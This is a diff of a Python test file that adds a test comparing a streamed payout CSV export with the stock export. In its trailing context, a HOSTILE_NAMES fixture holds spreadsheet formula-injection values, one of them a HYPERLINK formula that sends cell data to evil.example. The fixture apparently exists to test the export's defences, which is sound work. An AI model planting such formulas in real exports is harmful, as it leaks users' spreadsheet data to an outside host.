@@ -160,6 +160,25 @@ def test_the_streamed_csv_is_identical_to_import_exports_own(make_trade_in):
     assert len(list(csv.reader(io.StringIO(streamed)))) == 3  # header and the two O' rows
 
 
+def test_the_streamed_csv_is_the_stock_export_in_the_same_order_in_pieces(make_trade_in):
+    """Streamed in pieces of many rows (not one a row), ordered as the list is, with the
+    timestamps (printed by PostgreSQL on the COPY path) as the stock export writes them."""
+    from backoffice.resources import PayoutResource
+
+    for name in ("Ann", "Bob", "Cy", "Di"):
+        make_trade_in(State.CLOSED, buyer_name=name)
+    queryset = Payout.objects.order_by("-trade_in__buyer_name")
+    pieces = list(PayoutResource().stream_csv(queryset))
+    assert len(pieces) == 2  # the header, then every row in one piece
+    streamed = list(csv.reader(io.StringIO("".join(pieces))))
+    assert streamed == list(csv.reader(io.StringIO(PayoutResource().export(queryset).csv)))
+    assert [row[1] for row in streamed[1:]] == ["Di", "Cy", "Bob", "Ann"]
+    if connection.vendor == "postgresql":  # the export's planner setting ended with it
+        with connection.cursor() as cursor:
+            cursor.execute("SHOW enable_sort")
+            assert cursor.fetchone()[0] == "on"
+
+
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "@SUM(1+1)",
